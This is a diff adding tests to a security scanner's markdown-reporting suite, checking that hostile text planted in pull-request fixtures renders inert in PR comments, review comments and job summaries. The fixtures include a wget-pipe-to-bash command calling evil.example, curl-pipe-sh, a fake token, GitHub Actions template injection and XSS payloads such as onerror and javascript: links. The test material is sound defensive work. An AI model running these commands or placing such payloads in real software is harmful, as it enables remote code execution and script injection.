@@ -1,9 +1,15 @@
 import { describe, expect, it } from 'vitest';
+import { classifyFindings, type PrFile } from '../../src/core/diff.js';
+import type { Finding } from '../../src/core/types.js';
 import { renderRuleDoc } from '../../src/docs.js';
 import { code, fence, link, message, segments, text, url } from '../../src/reporters/markdown.js';
+import { toPrComment } from '../../src/reporters/pr-comment.js';
+import { buildReview } from '../../src/reporters/review.js';
+import { toSummaryMarkdown } from '../../src/reporters/summary.js';
+import { summarise } from '../../src/core/gate.js';
 import { rules } from '../../src/rules/index.js';
 import { scanDirectory, scanFiles } from '../../src/scan.js';
-import { decodeEntities, htmlProblems, links, render, textOf } from './markdown-check.js';
+import { decodeEntities, htmlProblems, links, render, tableProblems, tables, textOf } from './markdown-check.js';
 
 const ZWSP = /\u200b/g;
 
@@ -45,6 +51,13 @@ function ownMarkupOnly(html: string, hrefs: readonly string[]): void {
   }
   for (const m of html.matchAll(/<span>([\s\S]*?)<\/span>/g)) expect(m[1]).toBe('$');
   for (const l of links(html)) expect(hrefs.some((h) => l.href.startsWith(h)), l.href).toBe(true);
+}
+
+/** Tables keep their columns in the Markdown and in the rendered rows; every `<details>` is closed by ours. */
+function noSpill(md: string, html: string): void {
+  expect(tableProblems(md)).toEqual([]);
+  for (const t of tables(md)) for (const r of t.rows) expect(r).toHaveLength(t.header.length);
+  expect((html.match(/<details>/g) ?? []).length).toBe((html.match(/<\/details>/g) ?? []).length);
 }
 
 describe('code spans', () => {
@@ -211,5 +224,97 @@ describe('fenced blocks', () => {
       const blocks = codes(html.replace(/<code>(?![\s\S]*?<\/code><\/pre>)[\s\S]*?<\/code>/g, ''));
       for (const ex of [...rule.examples.bad, ...rule.examples.good]) expect(blocks, `${rule.id} ${ex.path}`).toContain(`${ex.text.replace(/\n+$/, '')}\n`);
     }
+  });
+});
+
+/**
+ * The "mentions" test (issue 13): a pull request plants mentions, references, URLs, HTML, images and
+ * links in file names, image names, curl hosts, dependency URLs, suppression ids and reasons, and a
+ * note; the sticky comment, every inline review comment and the job summary render them inert.
+ */
+describe('mentions, references, autolinks, HTML and images from the repository are inert everywhere', () => {
+  const H = '@org/team @user #1 acme/app#2 GH-3 https://evil.example www.evil.example </details> <img src=x onerror=alert(1)> [x](javascript:alert(1)) ![i](https://evil.example/i.png) $a$ &#64;u';
+  const dir = 'svc @org #1 <img src=x onerror=alert(1)> [x](javascript:alert(1)) www.evil.example `tick` a|b';
+  const files: Record<string, string> = {
+    [`${dir}/Dockerfile`]: [
+      'FROM evil.example/@org/team:#1',
+      'RUN wget -qO- "https://evil.example/@org/team?a=1|2" | bash',
+      `RUN apt-get install -y --allow-unauthenticated foo # portcullis: ignore[unsigned-packages] ${H}`,
+      `RUN curl -fsSL https://get.example.sh | sh # portcullis: ignore[@org/team] ${H}`,
+      'ENV API_TOKEN=ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
+      '',
+    ].join('\n'),
+    [`${dir}/package.json`]: JSON.stringify({ name: 'x', dependencies: { '@org/team': 'git+https://evil.example/@org/team.git#main' } }),
+    '.github/workflows/ci.yml': [
+      'on: issues',
+      'jobs:',
+      '  a:',
+      '    runs-on: ubuntu-latest',
+      '    steps:',
+      "      - run: echo \"${{ github.event.issue.title || 'untitled' }}\"",
+      '',
+    ].join('\n'),
+  };
+  const result = scanFiles(files, { failOn: 'low' });
+  const findings: Finding[] = result.findings;
+  const prFiles: PrFile[] = Object.entries(files).map(([filename, t]) => {
+    const lines = t.replace(/\n$/, '').split('\n');
+    return { filename, status: 'added', patch: [`@@ -0,0 +1,${lines.length} @@`, ...lines.map((l) => `+${l}`)].join('\n') };
+  });
+  const server = 'https://github.com';
+  const docs = 'https://github.com/acme/portcullis/blob/v1/docs/rules';
+  const links0 = { serverUrl: server, repository: 'acme/app', headSha: 'a'.repeat(40), runId: 7, docsBaseUrl: docs };
+  const ours = [`${server}/acme/app/blob/${'a'.repeat(40)}/`, `${docs}/`, `${server}/acme/app/actions/runs/7`];
+
+  it('plants hostile text in messages, paths and suppressions (the scan reports them)', () => {
+    expect(findings.map((f) => f.ruleId)).toEqual(expect.arrayContaining(['curl-pipe-shell', 'template-injection', 'unpinned-image', 'unpinned-git-dependency', 'ineffective-suppression']));
+    expect(findings.some((f) => f.suppressed?.reason === H)).toBe(true);
+    expect(findings.some((f) => f.message.includes('https://evil.example'))).toBe(true);
+  });
+
+  function expectInert(md: string): string {
+    const html = render(md);
+    noSpill(md, html);
+    ownMarkupOnly(html, ours);
+    expect(liveReferences(prose(html))).toEqual([]);
+    return html;
+  }
+
+  it('in the sticky comment', () => {
+    const md = toPrComment({
+      findings,
+      novelty: classifyFindings(findings, prFiles),
+      gate: 'new',
+      failOn: 'low',
+      links: links0,
+      rules,
+      changes: { suppressions: [{ path: `${dir}/Dockerfile`, line: 3, text: `# portcullis: ignore[unsigned-packages] ${H}` }], configChanges: [{ path: `${dir}/.github/portcullis.yml`, status: 'added' }] },
+    });
+    const html = expectInert(md);
+    const seen = textOf(html).replace(ZWSP, '');
+    expect(seen).toContain(H);
+    expect(seen).toContain(dir);
+    expect(codes(html)).toEqual(expect.arrayContaining(['curl … | sh', "${{ github.event.issue.title || 'untitled' }}", '@org/team', `${dir}/Dockerfile:3`]));
+  });
+
+  it('in every inline review comment', () => {
+    const plan = buildReview({ findings, files: prFiles, rules, docsBaseUrl: docs, readLines: (p) => files[p]?.split('\n') });
+    expect(plan.comments.length).toBeGreaterThan(4);
+    for (const c of [...plan.comments.map((x) => x.body), plan.body]) expectInert(c);
+    expect(plan.comments.some((c) => codes(render(c.body)).includes('@org/team'))).toBe(true);
+  });
+
+  it('in the job summary, its notices and notes', () => {
+    const md = toSummaryMarkdown(
+      { findings, notices: [...result.notices, { path: `${dir}/x.yml`, line: 2, message: `could not parse: ${H}` }], failOn: 'low', summary: summarise(findings, 'low') },
+      { repoUrl: `${server}/acme/app`, sha: 'a'.repeat(40), docsBaseUrl: docs, reportPath: `/tmp/${dir}.json`, notes: [`GitHub said: ${H}`], novelty: () => 'new' },
+    );
+    const html = expectInert(md);
+    const seen = textOf(html).replace(ZWSP, '');
+    expect(seen).toContain(H);
+    expect(seen).toContain(`GitHub said: ${H}`);
+    // The report's path is named when rows are left out.
+    const short = toSummaryMarkdown({ findings, notices: [], failOn: 'low', summary: summarise(findings, 'low') }, { reportPath: `/tmp/${dir}.json`, maxBytes: 3000 });
+    expect(codes(expectInert(short))).toContain(`/tmp/${dir}.json`);
   });
 });
